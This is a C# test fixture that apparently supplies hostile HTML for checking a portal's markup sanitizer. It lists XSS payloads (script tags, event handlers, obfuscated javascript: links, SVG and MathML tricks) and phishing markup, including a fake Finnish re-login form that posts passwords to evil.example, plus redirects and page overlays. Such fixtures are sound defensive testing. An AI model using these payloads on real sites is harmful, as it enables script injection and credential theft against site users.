namespace Verkostoportaali.Testing;

/// <summary>
/// Markup an author could save in a body to run script or to fake a login on the site's own address. Each piece tries to
/// set <c>window.pwned</c> or the page's title, open a dialog, load something from another site, post a password
/// elsewhere or lay something over the page.
/// </summary>
public static class HostileHtml
{
    public static readonly IReadOnlyList<string> Payloads =
    [
        "<script>window.pwned = 1; document.title = 'pwned'; alert(1)</script>",
        "<img src=x onerror=\"window.pwned = 2; alert(2)\">",
        "<p onclick=\"window.pwned = 3\" onmouseover=\"window.pwned = 3\">Vie hiiri tähän</p>",
        "<a href=\"javascript:window.pwned = 4\">Lue lisää</a>",
        "<a href=\" JaVaScRiPt:window.pwned = 5\">Lue lisää</a>",
        "<a href=\"java&#x09;script:window.pwned = 6\">Lue lisää</a>",
        "<a href=\"data:text/html,<script>parent.pwned = 7</script>\">Avaa liite</a>",
        "<a href=\"vbscript:msgbox(8)\">Avaa</a>",
        "<svg onload=\"window.pwned = 9\"><script>window.pwned = 9</script></svg>",
        "<svg><a xlink:href=\"javascript:window.pwned = 10\"><text y=\"20\">Klikkaa</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"window.pwned = 11\">",
        "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=12>\"></noscript>",
        "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>parent.pwned = 13</script>\"></iframe>",
        "<object data=\"javascript:window.pwned = 14\"></object><embed src=\"javascript:window.pwned = 14\">",
        "<details open ontoggle=\"window.pwned = 15\"><summary>Lisätietoja</summary></details>",
        "<input autofocus onfocus=\"window.pwned = 16\">",
        "<form action=\"https://evil.example/login\" method=\"post\"><p>Istuntosi vanheni. Kirjaudu uudelleen.</p>"
            + "<input name=\"user\"><input type=\"password\" name=\"password\"><button>Kirjaudu sisään</button></form>",
        "<select><option>Valitse kunta</option></select><textarea>Viesti</textarea><button formaction=\"https://evil.example/\">Lähetä</button>",
        "<div style=\"position: fixed; inset: 0; z-index: 9999; background: white\">Kirjaudu sisään jatkaaksesi</div>",
        "<p style=\"position: absolute; top: 0; left: 0; background: url(https://evil.example/login.png)\">Kirjautuminen</p>",
        "<div class=\"admin-nav\" id=\"main\" data-action=\"login\">Väärennetty valikko</div>",
        "<img src=\"https://evil.example/pixel.gif\"><img src=\"/media/kuva.jpg\">",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/phish.css\">",
        "<style>body { display: none }</style>",
    ];
}
